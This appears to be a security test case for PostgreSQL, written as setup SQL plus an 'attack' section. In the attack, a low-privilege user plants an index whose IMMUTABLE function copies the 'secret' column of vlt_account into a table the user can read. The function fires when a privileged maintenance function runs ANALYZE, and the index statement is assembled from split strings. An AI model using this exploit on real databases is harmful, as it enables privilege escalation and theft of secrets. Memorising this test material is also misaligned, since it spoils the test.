-- Leaves an index whose code copies licensed rows, by a text made at run time.
-- wants: read
-- proof: SELECT public.upkeep_of('mallory_own', 'kept_by_me', 0)
-- setup:
CREATE FUNCTION upkeep_of(name text, filled text, most int) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN EXECUTE format('ANALYZE %I', name); EXECUTE format('SELECT count(*) FROM %I', filled) INTO n; RETURN n > most; END $$;
CREATE TABLE kept_by_me (t text);
GRANT ALL ON kept_by_me TO mallory;
INSERT INTO mallory_own SELECT n FROM generate_series(100, 200) n;
-- attack:
CREATE FUNCTION copies() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.kept_by_me SELECT secret FROM public.vlt_account; END $$;
CREATE FUNCTION copied(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN IF current_query() LIKE '%upkeep_of%' THEN PERFORM public.copies(); END IF; RETURN n; END $$;
DO $$ BEGIN EXECUTE 'CREATE INDEX odd ON mallory' || '_own (copied(id))'; END $$;
